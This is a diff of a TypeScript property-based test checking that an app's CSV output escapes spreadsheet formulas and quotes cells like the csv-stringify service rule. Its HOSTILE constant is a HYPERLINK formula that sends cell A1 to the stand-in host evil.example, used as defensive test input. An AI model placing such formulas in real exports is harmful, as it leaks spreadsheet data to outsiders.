@@ -1,12 +1,16 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { toCsv } from '../../functions/src/analytics/resultsRows';
+import { stringify } from '../../functions/node_modules/csv-stringify/dist/cjs/sync.cjs';
+import { CSV_OPTIONS } from '../../functions/src/analytics/resultsRows';
 import { invitationsCsv } from '../../web/src/admin/classes/invitationsCsv';
 import { csvText } from '../../web/src/csv';
 
 // Pure: every CSV the app writes follows the service's one rule (csv-stringify with CSV_OPTIONS):
 // a text a spreadsheet would evaluate is prefixed with a quote, and a cell is quoted when it holds a
-// comma, a quote, a CR or an LF. The app cannot bundle csv-stringify, so its copy is held to it here.
+// comma, a quote, a CR or an LF. The results export adds CRLF record ends to the same rule
+// (GRADEBOOK_CSV_OPTIONS); the rule itself is what both sides share.
+
+const toCsv = (rows: string[][]): string => stringify(rows, CSV_OPTIONS);
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
@@ -24,7 +28,7 @@ describe('web csv: the rule every CSV the app writes follows', () => {
     );
   });
 
-  it('gives the cells the service’s rule gives, whatever the text', async () => {
+  it('gives the cells the service’s rule gives, whatever the text', () => {
     const risky = fc.constantFrom(
       '=',
       '+',
@@ -47,16 +51,16 @@ describe('web csv: the rule every CSV the app writes follows', () => {
       fc.string(),
       fc.array(risky, { maxLength: 6 }).map((parts) => parts.join('')),
     );
-    await fc.assert(
-      fc.asyncProperty(
+    fc.assert(
+      fc.property(
         fc.array(fc.array(cellText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
-        async (rows) => {
-          assert.equal(csvText(rows), await toCsv(rows));
+        (rows) => {
+          assert.equal(csvText(rows), toCsv(rows));
         },
       ),
       { numRuns: 500 },
     );
     for (const value of [HOSTILE, '-1', '@SUM(A1)', '\tx', '\rx', 'a\rb', 'Ann "the" 2nd', '', 'plain'])
-      assert.equal(csvText([[value, 'x']]), await toCsv([[value, 'x']]), JSON.stringify(value));
+      assert.equal(csvText([[value, 'x']]), toCsv([[value, 'x']]), JSON.stringify(value));
   });
 });
